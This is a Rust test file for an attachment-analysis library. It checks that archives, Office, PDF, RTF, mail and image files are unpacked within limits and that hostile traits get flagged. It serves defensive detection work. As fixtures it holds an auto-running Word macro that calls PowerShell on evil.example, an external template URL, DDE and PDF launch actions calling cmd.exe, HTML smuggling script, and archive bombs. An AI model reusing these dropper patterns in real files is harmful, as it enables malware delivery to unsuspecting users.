//! Formats of attachments: what each gives, and what hostile ones may not do.

use ruleeval::files::{Budget, Exploded, File, Tools, explode};
use std::io::{Cursor, Write};
use std::sync::Arc;

const BUDGET: Budget = Budget { files: 99, bytes: 4 << 20, depth: 6, pages: 20, pixels: 4 << 20 };

fn open(name: &str, bytes: &[u8]) -> Exploded {
    explode(Some(name), "application/octet-stream", bytes.into(), BUDGET)
}

/// A file made by another program: see tests/data/files/README.md.
fn made(name: &str) -> Vec<u8> {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/files").join(name);
    std::fs::read(path).expect("a file of the tests")
}

fn open_made(name: &str) -> Exploded {
    open(name, &made(name))
}

fn paths(exploded: &Exploded) -> Vec<String> {
    exploded.files.iter().map(|file| format!("{} {}", file.kind, file.path)).collect()
}

fn named<'e>(exploded: &'e Exploded, end: &str) -> &'e Arc<File> {
    let found = exploded.files.iter().find(|file| file.path.ends_with(end));
    found.unwrap_or_else(|| panic!("no `{end}` in {:?}", paths(exploded)))
}

fn zipped(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in files {
        writer.start_file(*name, zip::write::SimpleFileOptions::default()).expect("a name");
        writer.write_all(bytes).expect("memory");
    }
    writer.finish().expect("memory").into_inner()
}

fn ole(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("created");
    for (path, bytes) in streams {
        let folder = std::path::Path::new(path).parent().expect("a folder");
        file.create_storage_all(folder).expect("a storage");
        file.create_stream(path).expect("a stream").write_all(bytes).expect("written");
    }
    file.flush().expect("flushed");
    file.into_inner().into_inner()
}

/// A compressed container ([MS-OVBA] 2.4.1) that repeats nothing: eight literals behind each flag byte.
fn module(source: &str) -> Vec<u8> {
    let text = format!("Attribute VB_Name = \"Module1\"\r\n{source}");
    let mut container = vec![0xAA; 40];
    container.push(1);
    for chunk in text.as_bytes().chunks(3_000) {
        let body: Vec<u8> = chunk.chunks(8).flat_map(|eight| [&[0], eight].concat()).collect();
        container.extend((0xB000 | (body.len() as u16 - 1)).to_le_bytes());
        container.extend(body);
    }
    container
}

#[test]
fn seven_zip() {
    let plain = open_made("plain.7z");
    assert_eq!(paths(&plain), ["7z plain.7z", "txt plain.7z/in/note.txt", "js plain.7z/in/run.js"]);
    assert_eq!(named(&plain, "note.txt").urls().0[0].url.as_ref(), "https://example.com/7z");
    assert_eq!(plain.limits_hit, [] as [&str; 0]);
    for name in ["locked.7z", "hidden.7z"] {
        let locked = open_made(name);
        assert!(locked.files[0].flags().contains(&"encrypted"), "{name}: {:?}", locked.limits_hit);
        assert_eq!(locked.files.len(), 1);
    }
    let listed = open_made("locked.7z");
    let listing = listed.files[0].listing.as_ref().expect("a listing");
    assert!(listing.paths().any(|path| path == "in/run.js"), "{listing:?}");
    let bytes = made("plain.7z");
    for end in (0..bytes.len()).step_by(5) {
        let _ = open("cut.7z", &bytes[..end]);
    }
}

#[test]
fn bzip2_xz_and_what_7z_packs_with() {
    for (name, tar) in [("packed.tar.xz", "packed.tar"), ("packed.tbz2", "packed.tar")] {
        let exploded = open_made(name);
        let [outer, inner, ..] = &paths(&exploded)[..] else { panic!("{name}: {:?}", exploded.limits_hit) };
        let kind = if name.ends_with("xz") { "xz" } else { "bz2" };
        assert_eq!((outer.as_str(), inner.as_str()), (&*format!("{kind} {name}"), &*format!("tar {name}/{tar}")));
        assert_eq!(named(&exploded, "note.txt").urls().0[0].url.as_ref(), "https://example.com/packed");
        let bytes = made(name);
        let cut = open(name, &bytes[..bytes.len() - 30]);
        assert!(cut.limits_hit.iter().any(|limit| limit.contains("damaged")), "{name}: {:?}", cut.limits_hit);
    }
    for name in ["bzip2.7z", "deflate.7z"] {
        assert_eq!(named(&open_made(name), "run.js").kind, "js", "{name}");
    }
    let listed = open_made("ppmd.7z");
    assert_eq!(listed.files.len(), 1);
    assert!(listed.files[0].listing.as_ref().is_some_and(|listing| listing.paths().any(|path| path == "in/run.js")));
    assert!(listed.limits_hit[0].contains("compression that is not read"), "{:?}", listed.limits_hit);
}

#[test]
fn bombs_in_bzip2_and_xz() {
    let bomb = open_made("bomb.bz2");
    assert!(bomb.limits_hit.iter().any(|limit| limit.starts_with("file_bytes")), "{:?}", bomb.limits_hit);
    assert!(bomb.files.iter().map(|file| file.bytes.len()).sum::<usize>() <= 65 << 20);
    let memory = open_made("memory.xz");
    assert!(memory.limits_hit[0].starts_with("memory: a packed file"), "{:?}", memory.limits_hit);
    assert!(memory.files.iter().skip(1).all(|file| file.bytes.is_empty()));
}

#[test]
fn zip_archives_packed_with_other_methods() {
    assert_eq!(&*named(&open_made("bzip2.zip"), "long.txt").bytes, [b'x'; 100]);
    let listed = open_made("lzma.zip");
    assert_eq!(listed.limits_hit, ["files: a file of a zip archive was listed, but not unpacked"]);
    assert!(listed.files[0].listing.as_ref().is_some_and(|listing| listing.paths().eq(["in/long.txt"])));
}

#[test]
fn bombs_in_seven_zip() {
    let bomb = open_made("bomb.7z.gz");
    assert!(bomb.limits_hit.iter().any(|limit| limit.starts_with("file_bytes")), "{:?}", bomb.limits_hit);
    assert!(bomb.files.iter().map(|file| file.bytes.len()).sum::<usize>() < 1 << 20);
    let memory = open_made("memory.7z");
    assert!(memory.limits_hit.iter().any(|limit| limit.starts_with("memory")), "{:?}", memory.limits_hit);
}

#[test]
fn an_encrypted_zip() {
    let locked = open_made("locked.zip");
    assert_eq!(paths(&locked), ["zip locked.zip"]);
    assert!(locked.files[0].flags().contains(&"encrypted"));
}

#[test]
fn a_disc_image_in_gzip() {
    let disc = open_made("disc.iso.gz");
    let names: Vec<String> = paths(&disc);
    assert!(names.contains(&"iso disc.iso.gz/disc.iso".to_owned()), "{names:?}");
    assert_eq!(named(&disc, "disc.iso/note.txt").urls().0[0].url.as_ref(), "https://example.com/7z");
    assert_eq!(named(&disc, "disc.iso/run.js").kind, "js");
    // A folder that holds itself ends.
    let image = named(&disc, "disc.iso").bytes.to_vec();
    for end in (32_768..image.len()).step_by(999) {
        let _ = open("cut.iso", &image[..end]);
    }
}

/// An archive of version 1.5: a stored file, an encrypted one, a compressed one.
fn rar_4() -> Vec<u8> {
    let mut bytes = b"Rar!\x1A\x07\x00".to_vec();
    bytes.extend([0, 0, 0x73, 0, 0, 13, 0, 0, 0, 0, 0, 0, 0]);
    let files: [(&str, u16, u8, &[u8]); 3] =
        [("dir\\a.js", 0, 0x30, b"alert(1)"), ("b.exe", 4, 0x33, b"????"), ("c.txt", 0, 0x33, b"!!!")];
    for (name, flags, method, data) in files {
        bytes.extend([0, 0, 0x74]);
        bytes.extend((0x8000_u16 | flags).to_le_bytes());
        bytes.extend((32 + name.len() as u16).to_le_bytes());
        bytes.extend((data.len() as u32).to_le_bytes());
        bytes.extend(1234_u32.to_le_bytes());
        bytes.extend([2, 0, 0, 0, 0, 0, 0, 0, 0, 29, method]);
        bytes.extend((name.len() as u16).to_le_bytes());
        bytes.extend(0x20_u32.to_le_bytes());
        bytes.extend(name.as_bytes());
        bytes.extend(data);
    }
    bytes.extend([0, 0, 0x7B, 0, 0, 7, 0]);
    bytes
}

/// An archive of version 5 with the same.
fn rar_5() -> Vec<u8> {
    let block = |body: &[u8], data: &[u8]| {
        let mut block = vec![0, 0, 0, 0, body.len() as u8];
        block.extend(body);
        block.extend(data);
        block
    };
    let file = |name: &str, compression: &[u8], extra: &[u8], data: &[u8]| {
        let mut body = vec![2, 2 | u8::from(!extra.is_empty())];
        if !extra.is_empty() {
            body.push(extra.len() as u8);
        }
        body.extend([data.len() as u8, 0, 0x88, 0x27, 0x20]);
        body.extend(compression);
        body.extend([0, name.len() as u8]);
        body.extend(name.as_bytes());
        body.extend(extra);
        block(&body, data)
    };
    let mut bytes = b"Rar!\x1A\x07\x01\x00".to_vec();
    bytes.extend(block(&[1, 0, 0], b""));
    bytes.extend(file("dir/a.js", &[0], b"", b"alert(1)"));
    bytes.extend(file("b.exe", &[0], &[3, 1, 0, 0], b"????"));
    bytes.extend(file("c.txt", &[0x80, 1], b"", b"!!!"));
    bytes.extend(block(&[5, 0, 0], b""));
    bytes
}

#[test]
fn rar() {
    for (bytes, method) in [(rar_4(), 4), (rar_5(), 5)] {
        let exploded = open("a.rar", &bytes);
        assert_eq!(paths(&exploded), ["rar a.rar", "js a.rar/dir/a.js"], "{method}");
        let listing = exploded.files[0].listing.as_ref().expect("a listing");
        let listed: Vec<_> = listing.entries.iter().map(|entry| (entry.path.as_str(), entry.encrypted)).collect();
        assert_eq!(listed, [("dir/a.js", false), ("b.exe", true), ("c.txt", false)], "{method}");
        assert!(listing.encrypted);
        assert_eq!(exploded.limits_hit, ["files: compressed files in a rar archive were listed, but not unpacked"]);
        for end in 0..bytes.len() {
            let _ = open("cut.rar", &bytes[..end]);
        }
    }
    // Encrypted names: of version 5 a block of its own, of older ones a flag.
    let hidden = [b"Rar!\x1A\x07\x01\x00".as_slice(), &[0, 0, 0, 0, 3, 4, 0, 0]].concat();
    assert!(open("h.rar", &hidden).files[0].flags().contains(&"encrypted"));
    let mut old = rar_4();
    old[10] = 0x80;
    assert!(open("h.rar", &old).files[0].flags().contains(&"encrypted"));
}

#[test]
fn a_word_document_with_macros() {
    let source = "Sub AutoOpen()\r\nSet x = CreateObject(\"WScript.Shell\")\r\nx.Run \"powershell https://evil.example/a.ps1\"\r\nEnd Sub\r\n";
    let mut word = vec![0; 64];
    word[..2].copy_from_slice(&0xA5EC_u16.to_le_bytes());
    let module = module(source);
    let streams: [(&str, &[u8]); 3] =
        [("/WordDocument", &word), ("/Macros/VBA/Module1", &module), ("/Macros/VBA/dir", b"\x01damaged")];
    let document = ole(&streams);
    let exploded = open("bill.doc", &document);
    let file = &exploded.files[0];
    assert_eq!(file.kind, "doc");
    let macros = file.macros().expect("macros");
    assert_eq!(macros.of_kind("autoexec").collect::<Vec<_>>(), ["AutoOpen"]);
    assert!(macros.of_kind("suspicious").any(|word| word == "WScript.Shell"), "{macros:?}");
    assert_eq!(&*file.urls().0[0].url, "https://evil.example/a.ps1");
    assert_eq!(file.flags(), ["macro_auto_exec", "macros"]);
    let tools = Tools::of(&exploded.files).expect("a document");
    assert_eq!((tools.vba_macros.value.as_str(), tools.vba_macros.risk.name()), ("yes, suspicious", "high"));
    assert_eq!(tools.file_format.value, "MS Word 97-2003 Document or Template");

    // The same project in a newer document: it lies in a file of its own.
    let project = ole(&[("/VBA/Module1", &module)]);
    let docm = zipped(&[("word/document.xml", b"<w:document/>"), ("word/vbaProject.bin", &project)]);
    let exploded = open("bill.docm", &docm);
    assert_eq!(named(&exploded, "word/vbaProject.bin").path.as_ref(), "bill.docm/word/vbaProject.bin");
    assert_eq!(exploded.files[0].flags(), ["macros"]);
    let tools = Tools::of(&exploded.files).expect("a document");
    assert_eq!(tools.vba_macros.risk.name(), "high");
    for end in (0..document.len()).step_by(97) {
        let _ = open("cut.doc", &document[..end]);
    }
}

#[test]
fn documents_that_load_run_or_lock() {
    let rels = b"<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
    let template = zipped(&[("word/document.xml", b"<w:document/>"), ("word/_rels/settings.xml.rels", rels)]);
    let template = open("a.docx", &template);
    assert_eq!(template.files[0].flags(), ["external_template"]);
    let tools = Tools::of(&template.files).expect("a document");
    assert!(tools.external_relationships.exists && !tools.vba_macros.exists);
    assert_eq!(tools.relationships[0].target, "https://evil.example/t.dotm");

    let dde = zipped(&[("word/document.xml", b"<w:p><w:fldSimple w:instr=\"DDEAUTO c:\\\\cmd.exe\"/></w:p>")]);
    assert_eq!(open("a.docx", &dde).files[0].flags(), ["dde"]);

    let locked = ole(&[("/EncryptedPackage", &[0; 100]), ("/EncryptionInfo", &[0; 8])]);
    let locked = open("a.docx", &locked);
    assert_eq!((locked.files[0].kind, locked.files[0].flags()), ("ole", vec!["encrypted"]));

    // A sheet of macros among the sheets of a workbook ([MS-XLS] 2.4.28).
    let sheet = [0x85, 0, 9, 0, 0, 0, 0, 0, 1, 1, 1, 0, b'M'];
    let workbook = ole(&[("/Workbook", &sheet)]);
    assert_eq!(open("a.xls", &workbook).files[0].flags(), ["xlm"]);
    let password = ole(&[("/Workbook", &[0x2F, 0, 2, 0, 0, 0])]);
    assert_eq!(open("a.xls", &password).files[0].flags(), ["encrypted"]);
}

/// A file as the shell embeds it.
fn package(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut data = vec![2, 0];
    for text in [name, "C:\\x\\y"] {
        data.extend(text.as_bytes());
        data.push(0);
    }
    data.extend([0, 0, 3, 0, 2, 0, 0, 0, b'c', 0]);
    data.extend((bytes.len() as u32).to_le_bytes());
    data.extend(bytes);
    data
}

#[test]
fn embedded_objects() {
    let data = package("run.js", b"alert(1)");
    let native = [&(data.len() as u32).to_le_bytes()[..], &data].concat();
    let object = ole(&[("/\u{1}Ole10Native", &native)]);
    let docx = zipped(&[("word/document.xml", b"<w:document/>"), ("word/embeddings/oleObject1.bin", &object)]);
    let exploded = open("a.docx", &docx);
    assert_eq!(named(&exploded, "run.js").path.as_ref(), "a.docx/word/embeddings/oleObject1.bin/run.js");
    assert_eq!(exploded.files[0].flags(), ["embedded_object"]);

    let mut embedded = Vec::new();
    embedded.extend([1, 5, 0, 0, 2, 0, 0, 0, 8, 0, 0, 0]);
    embedded.extend(b"Package\0");
    embedded.extend([0; 8]);
    embedded.extend((data.len() as u32).to_le_bytes());
    embedded.extend(&data);
    let hex: String = embedded.iter().map(|byte| format!("{byte:02x}\r\n")).collect();
    let rtf = format!(
        "{{\\rtf1 See {{\\object\\objemb{{\\*\\objclass Package}}{{\\*\\objdata {hex}}}}}{{\\field{{\\*\\fldinst HYPERLINK \"https://example.com/r\"}}{{\\fldrslt more}}}}}}"
    );
    let exploded = open("a.rtf", rtf.as_bytes());
    assert_eq!(paths(&exploded), ["rtf a.rtf", "js a.rtf/run.js"]);
    assert_eq!(exploded.files[0].shown_text(), Some("See more"));
    assert_eq!(&*exploded.files[0].urls().0[0].url, "https://example.com/r");
    assert_eq!(exploded.files[0].flags(), ["embedded_object"]);
}

#[test]
fn outlook_messages() {
    let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let msg = ole(&[
        ("/__properties_version1.0", &[0; 32]),
        ("/__substg1.0_0037001F", &utf16("Invoice")),
        ("/__substg1.0_1000001F", &utf16("Call https://example.com/m")),
        ("/__attach_version1.0_#00000000/__substg1.0_37010102", b"%PDF-1.4"),
        ("/__attach_version1.0_#00000000/__substg1.0_3707001F", &utf16("bill.pdf")),
    ]);
    let exploded = open("a.msg", &msg);
    assert_eq!(paths(&exploded), ["msg a.msg", "txt a.msg/unnamed", "pdf a.msg/bill.pdf"]);
}

#[test]
fn winmail() {
    let mut data = 0x223E_9F78_u32.to_le_bytes().to_vec();
    data.extend([1, 0]);
    let mut attribute = |level: u8, id: u32, value: &[u8]| {
        data.push(level);
        data.extend(id.to_le_bytes());
        data.extend((value.len() as u32).to_le_bytes());
        data.extend(value);
        data.extend([0, 0]);
    };
    let mut html = vec![1, 0, 0, 0, 0x02, 0x01, 0x13, 0x10, 1, 0, 0, 0];
    let page = b"<a href=https://example.com/t>x</a>\0";
    html.extend((page.len() as u32).to_le_bytes());
    html.extend(page);
    attribute(1, 0x0006_9003, &html);
    attribute(2, 0x0006_9002, &[0; 14]);
    attribute(2, 0x0001_8010, b"BILL.ZIP\0");
    attribute(2, 0x0006_800F, &zipped(&[("in.txt", b"hello")]));
    // The long name wins.
    let mut long = vec![1, 0, 0, 0, 0x1F, 0, 0x07, 0x37, 1, 0, 0, 0];
    let name: Vec<u8> = "bill of May.zip\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
    long.extend((name.len() as u32).to_le_bytes());
    long.extend(&name);
    attribute(2, 0x0006_9005, &long);
    let exploded = open("winmail.dat", &data);
    assert_eq!(
        paths(&exploded),
        [
            "tnef winmail.dat",
            "html winmail.dat/body.html",
            "zip winmail.dat/bill of May.zip",
            "txt winmail.dat/bill of May.zip/in.txt"
        ]
    );
    assert_eq!(&*exploded.files[1].urls().0[0].url, "https://example.com/t");
    for end in 0..data.len() {
        let _ = open("winmail.dat", &data[..end]);
    }
}

/// A document of one page, with a text, an embedded file and actions.
fn pdf(content: &str, more: &str) -> Vec<u8> {
    format!(
        "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R {more} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R /F2 6 0 R >> /XObject << /X1 8 0 R >> >> >>\nendobj\n4 0 obj\n<< /Length {} >>\nstream\n{content}\nendstream\nendobj\n5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /BaseEncoding /WinAnsiEncoding /Differences [1 /eacute /Euro] >> >>\nendobj\n6 0 obj\n<< /Type /Font /Subtype /Type0 /Encoding /Identity-H /ToUnicode 7 0 R >>\nendobj\n7 0 obj\n<< /Length 69 >>\nstream\n1 begincodespacerange <0000> <FFFF> endcodespacerange 1 beginbfrange <0001> <0003> <0061> endbfrange\nendstream\nendobj\n8 0 obj\n<< /Type /XObject /Subtype /Form /Length 6 >>\nstream\n/X1 Do\nendstream\nendobj\n9 0 obj\n<< /Type /Filespec /F (in.txt) /EF << /F 10 0 R >> >>\nendobj\n10 0 obj\n<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 11 >>\n%%EOF\n",
        content.len()
    )
    .into_bytes()
}

#[test]
fn the_text_of_a_pdf_document() {
    let content = "BT /F1 12 Tf 10 100 Td (Pay 5 \\002 at) Tj ( caf\\001) Tj 0 -14 Td [(https://exam) 20 (ple.com/p) -300 (now)] TJ ET BT /F2 9 Tf 1 0 0 1 10 50 Tm <000100020003> Tj ET";
    let bytes = pdf(content, "");
    let exploded = open("a.pdf", &bytes);
    let file = &exploded.files[0];
    assert_eq!(file.shown_text(), Some("Pay 5 \u{20ac} at caf\u{e9}\nhttps://example.com/p now\nabc\n"));
    assert_eq!(&*file.urls().0[0].url, "https://example.com/p");
    assert_eq!(paths(&exploded), ["pdf a.pdf", "txt a.pdf/in.txt"]);
    assert_eq!(file.pdf().expect("a document").embedded, ["in.txt"]);
    assert_eq!(file.flags(), [] as [&str; 0]);
    for end in (0..bytes.len()).step_by(13) {
        let _ = open("a.pdf", &bytes[..end]).files[0].shown_text();
    }
}

#[test]
fn what_a_pdf_document_does() {
    let acts = pdf("", "/OpenAction << /S /Launch /F (cmd.exe) >>");
    assert_eq!(open("a.pdf", &acts).files[0].flags(), ["launch", "open_action"]);
    // A place to show first is no action.
    let shows = pdf("", "/OpenAction [3 0 R /Fit]");
    assert_eq!(open("a.pdf", &shows).files[0].flags(), [] as [&str; 0]);
    let script = pdf("", "/OpenAction << /S /JavaScript /JS (x) >> /AcroForm << >>");
    let script = open("a.pdf", &script);
    assert_eq!(script.files[0].flags(), ["javascript", "open_action"]);
    assert!(script.files[0].pdf().expect("a document").form);
}

#[test]
fn a_pdf_document_that_draws_itself_ends() {
    let bytes = pdf("/X1 Do /X1 Do /X1 Do", "");
    let file = &open("a.pdf", &bytes).files[0];
    assert_eq!(file.shown_text(), Some(""));
    assert!(file.shown_text_cut());
}

#[test]
fn a_pdf_directory_that_grows_is_not_read() {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(&vec![b' '; 80 << 20]).expect("memory");
    let packed = encoder.finish().expect("memory");
    let head = format!(
        "%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >>\nstream\n",
        packed.len()
    );
    let bytes = [head.as_bytes(), &packed, b"\nendstream\nendobj\ntrailer << /Root 2 0 R >>\n"].concat();
    let bomb = open("a.pdf", &bytes);
    assert!(bomb.limits_hit.iter().any(|limit| limit.starts_with("file_bytes")), "{:?}", bomb.limits_hit);
    assert!(bomb.files[0].pdf().is_some_and(|pdf| pdf.damaged));
}

#[test]
fn smuggling() {
    let payload = "QUJD".repeat(1500);
    let page = format!(
        "<html><script>var d = atob('{payload}'); var b = new Blob([d]); var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'x.iso'; a.click();</script></html>"
    );
    let file = &open("a.html", page.as_bytes()).files[0];
    assert_eq!(file.smuggling(), ["atob", "auto_click", "blob", "download_attribute", "large_base64", "object_url"]);
    assert!(file.flags().contains(&"smuggling"));
    let svg = format!("<svg xmlns='http://www.w3.org/2000/svg'>{}</svg>", &page[6..page.len() - 7]);
    let flags = open("a.svg", svg.as_bytes()).files[0].flags();
    assert_eq!(flags, ["javascript", "smuggling"]);
    let harmless = "<html><script>var x = atob(y); z.click()</script><a href='/a' >b</a></html>";
    assert!(!open("a.html", harmless.as_bytes()).files[0].flags().contains(&"smuggling"));
    let held = "<a download=x.html href='data:text/html;base64,AAAA'>x</a><html>";
    assert!(open("a.html", held.as_bytes()).files[0].flags().contains(&"smuggling"));
}

#[test]
fn names_and_types_that_mislead() {
    let rows: [(&str, &str, &[u8], &[&str]); 8] = [
        ("invoice.pdf.exe", "", b"MZ\x90\0\x03\0\0\0", &["double_extension", "executable"]),
        ("a.pdf", "application/pdf", b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", &["type_mismatch"]),
        ("a.pdf", "application/pdf", b"<html><body>x", &["type_mismatch"]),
        ("a.dat", "application/pdf", b"<html><body>x", &["type_mismatch"]),
        ("a.html", "application/octet-stream", b"<html><body>x", &[]),
        ("a.png", "image/jpeg", b"\x89PNG\r\n\x1a\n", &[]),
        ("ann\u{202E}fdp.exe", "", b"text", &["name_reversed"]),
        ("a.url", "", b"[InternetShortcut]\nURL=https://example.com/u\n", &["shortcut"]),
    ];
    for (name, declared, bytes, expected) in rows {
        let exploded = explode(Some(name), declared, bytes.into(), BUDGET);
        assert_eq!(exploded.files[0].flags(), expected, "{name} {declared}");
    }
}

#[cfg(feature = "images")]
#[test]
fn qr_codes() {
    let names =
        ["qr.png", "qr.jpg", "qr_inverted.png", "qr_transparent.png", "qr_small.png", "qr_page.gif", "qr_page.pdf"];
    for name in names {
        let exploded = open_made(name);
        assert_eq!(exploded.files[0].codes().found, ["https://login.example.com/qr?id=1"], "{name}");
        assert!(exploded.files[0].flags().contains(&"qr_code"), "{name}");
    }
    // No code, damaged pictures, and one that says to be huge.
    assert!(open_made("exif.jpg").files[0].codes().looked);
    let png = made("qr.png");
    for end in (0..png.len()).step_by(9) {
        let _ = open("cut.png", &png[..end]).files[0].codes();
    }
    let mut huge = png;
    huge[16..24].copy_from_slice(&[0, 1, 0, 0, 0, 1, 0, 0]);
    let exploded = open("huge.png", &huge);
    assert!(exploded.files[0].codes().limit.is_some_and(|limit| limit.starts_with("pixels")));
}

#[test]
fn exif() {
    let exploded = open_made("exif.jpg");
    let tags: Vec<_> = exploded.files[0].exif().iter().map(|tag| (tag.name.as_str(), tag.value.as_str())).collect();
    assert!(tags.contains(&("Make", "Example Camera")), "{tags:?}");
    assert!(tags.contains(&("Software", "Example Writer 1.0")), "{tags:?}");
    assert_eq!(exploded.files[0].pixels(), Some((64, 48)));
}

#[test]
fn quines_and_archives_that_share_bytes_end() {
    // An archive whose directory names the same file a thousand times.
    let zip = zipped(&[("a.txt", &b"x".repeat(100_000))]);
    let central = zip.windows(4).position(|window| window == b"PK\x01\x02").expect("a directory");
    let end = zip.windows(4).position(|window| window == b"PK\x05\x06").expect("its end");
    let entry = &zip[central..end];
    let mut overlapping = zip[..central].to_vec();
    for index in 0..1000 {
        let name = format!("{index:05}");
        overlapping.extend(entry);
        let at = overlapping.len() - entry.len() + 46;
        overlapping[at..at + 5].copy_from_slice(name.as_bytes());
    }
    let mut tail = zip[end..].to_vec();
    tail[8..10].copy_from_slice(&1000_u16.to_le_bytes());
    tail[10..12].copy_from_slice(&1000_u16.to_le_bytes());
    tail[12..16].copy_from_slice(&(entry.len() as u32 * 1000).to_le_bytes());
    overlapping.extend(tail);
    let exploded = open("a.zip", &overlapping);
    assert!(!exploded.limits_hit.is_empty());
    assert!(exploded.files.iter().map(|file| file.bytes.len()).sum::<usize>() <= (4 << 20) + overlapping.len());
    // A compound file whose sectors point at each other.
    let mut circle = ole(&[("/WordDocument", &[1; 9000])]);
    for at in (512..1024).step_by(4) {
        circle[at..at + 4].copy_from_slice(&1_u32.to_le_bytes());
    }
    let _ = open("a.doc", &circle);
}

#[test]
fn a_onenote_section() {
    let mut section = b"\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D".to_vec();
    section.extend([0; 100]);
    section.extend(b"\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC");
    section.extend(15_u64.to_le_bytes());
    section.extend([0; 12]);
    section.extend(b"<html><body>hta");
    let exploded = open("a.one", &section);
    assert_eq!(paths(&exploded), ["one a.one", "html a.one/unnamed"]);
}

/// Numbers that look random and are the same each time.
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, limit: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % limit.max(1) as u64) as usize
    }
}

#[test]
fn damage_anywhere_keeps_the_budget() {
    let mut samples: Vec<(String, Vec<u8>)> = Vec::new();
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/files");
    let mut names: Vec<_> =
        std::fs::read_dir(folder).expect("a folder").map(|entry| entry.expect("a file").file_name()).collect();
    names.sort();
    for name in names.iter().map(|name| name.to_string_lossy().into_owned()) {
        samples.push((name.clone(), made(&name)));
    }
    samples.push(("a.rar".into(), rar_4()));
    samples.push(("b.rar".into(), rar_5()));
    samples.push(("a.pdf".into(), pdf("BT /F1 12 Tf (text) Tj /X1 Do ET", "/AA << >>")));
    samples.push(("a.doc".into(), ole(&[("/WordDocument", &[1; 100]), ("/Macros/VBA/M", &module("Sub AutoOpen()"))])));
    samples.push((
        "a.rtf".into(),
        b"{\\rtf1{\\object{\\*\\objdata 0105000002000000080000005061636b61676500}}\\u8364?\\'e4}".to_vec(),
    ));
    let budget = Budget { files: 20, bytes: 256 << 10, depth: 4, pages: 3, pixels: 64 << 10 };
    let mut numbers = Numbers(0x9E37_79B9_7F4A_7C15);
    for (name, sample) in &samples {
        for _ in 0..25 {
            let mut bytes = sample.clone();
            for _ in 0..=numbers.below(6) {
                let at = numbers.below(bytes.len());
                bytes[at] = [0, 0xFF, 0x7F, 1, bytes[at] ^ 0x10][numbers.below(5)];
            }
            let exploded = explode(Some(name), "application/octet-stream", bytes.into(), budget);
            let inside = exploded.files.iter().skip(1).map(|file| file.bytes.len()).sum::<usize>();
            assert!(inside <= budget.bytes && exploded.files.len() <= budget.files + 1, "{name}");
            for file in &exploded.files {
                let _ = (file.shown_text(), file.urls(), file.flags(), file.exif());
            }
        }
    }
}
